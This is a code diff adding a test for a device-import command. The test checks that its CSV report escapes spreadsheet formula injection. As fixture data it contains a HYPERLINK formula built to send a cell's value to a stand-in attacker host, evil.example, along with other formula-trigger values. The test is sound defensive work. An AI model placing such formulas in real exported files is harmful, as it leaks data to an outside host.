@@ -468,3 +468,23 @@ def test_a_progress_bar_shows_on_a_terminal_only(tmp_path, monkeypatch):
     monkeypatch.setattr("sys.stderr", terminal)
     call_command("import_devices", path, "--dry-run", stdout=Terminal(), stderr=terminal)
     assert "3/3" in terminal.getvalue()
+
+
+def test_a_report_writes_no_cell_a_spreadsheet_would_run_as_a_formula(tmp_path):
+    # given: cells a spreadsheet would run, in a failing row and in a created one
+    formula = '=HYPERLINK("https://evil.example/?d="&A2,"open")'
+    path = write(
+        tmp_path,
+        "type,mac,serial_number,name,version,status\n"
+        f'mediaagent,"{formula.replace(chr(34), chr(34) * 2)}",,,,\n'
+        "mediaagent,A1B2C3D4E5F1,,@SUM(1+1),+1,\n",
+    )
+    report = tmp_path / "report.csv"
+    # when
+    code, _, _ = run("import_devices", path, "--report", str(report))
+    # then: those cells start with an apostrophe; the device keeps the name as typed
+    assert code == 1
+    rows = read_report(report)
+    assert rows[0]["mac"] == "'" + formula and rows[0]["outcome"] == "failed"
+    assert (rows[1]["name"], rows[1]["version"], rows[1]["outcome"]) == ("'@SUM(1+1)", "'+1", "created")
+    assert Device.objects.get().name == "@SUM(1+1)"
